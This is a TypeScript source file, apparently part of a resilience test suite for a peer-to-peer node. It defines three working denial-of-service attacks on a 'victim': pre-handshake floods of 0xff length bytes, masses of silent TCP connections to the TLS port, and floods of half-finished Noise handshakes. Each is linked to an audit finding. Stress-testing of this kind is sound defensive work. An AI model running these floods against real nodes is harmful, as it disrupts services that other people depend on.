import { connect, type Socket } from 'node:net'
import type { PeerAddress } from '../../../src/net/peer-address.ts'
import type { Attack, Battlefield } from '../attack.ts'
import { during, pause, repeat } from '../pace.ts'

/** A plain connection from an address of its own; ended with the attack. */
const open = async (field: Battlefield, to: PeerAddress, from: string): Promise<Socket> => {
  const socket = connect({ host: to.ip, port: to.port, localAddress: from })
  socket.on('error', () => undefined)
  field.signal.addEventListener('abort', () => socket.destroy(), { once: true })
  await during(field.signal, new Promise((resolve) => socket.once('connect', resolve).once('close', resolve)))
  if (socket.destroyed) throw new Error('refused')
  field.sent('connections')
  return socket
}

const closed = (socket: Socket): Promise<unknown> => new Promise((resolve) => socket.once('close', resolve))

/** Sends the same bytes at a rate for as long as the other side takes them. */
const pour = async (
  field: Battlefield,
  socket: Socket,
  bytes: Uint8Array,
  everyMs: number,
): Promise<void> => {
  while (!field.signal.aborted && !socket.destroyed) {
    socket.write(bytes)
    field.sent('bytes', bytes.length)
    await pause(field.signal, everyMs)
  }
}

export const socketAttacks: Attack[] = [
  {
    name: 'endless-length',
    what: '4 TCP connections send ff ff ff … at 50 kB/s each, before any handshake',
    finding: 'N1',
    run: async (field) => {
      await Promise.all(
        Array.from({ length: 4 }, (_, i) =>
          repeat(field.signal, async () => {
            const socket = await open(field, field.victim.p2p, field.address(i))
            await pour(field, socket, new Uint8Array(5_000).fill(0xff), 100)
          }),
        ),
      )
    },
  },
  {
    name: 'tls-silent',
    what: '18 addresses keep 15 silent TCP connections each to the TLS port',
    finding: 'F7, N2',
    run: async (field) => {
      await Promise.all(
        Array.from({ length: 18 * 15 }, (_, i) =>
          repeat(field.signal, async () => {
            const socket = await open(field, field.victim.tls, field.address(i % 18))
            await during(field.signal, closed(socket))
          }),
        ),
      )
    },
  },
  {
    name: 'half-handshakes',
    what: '150 addresses open 300 connections a second to the p2p port; half are silent, half begin Noise and stop',
    finding: 'N9',
    run: async (field) => {
      let number = 0
      while (!field.signal.aborted) {
        for (let i = 0; i < 30; i++) {
          const isSilent = number % 2 === 0
          void open(field, field.victim.p2p, field.address(number++ % 150))
            .then((socket) => (isSilent ? undefined : socket.write('\x13/multistream/1.0.0\n\x07/noise\n')))
            .catch(() => undefined)
        }
        await pause(field.signal, 100)
      }
    },
  },
]
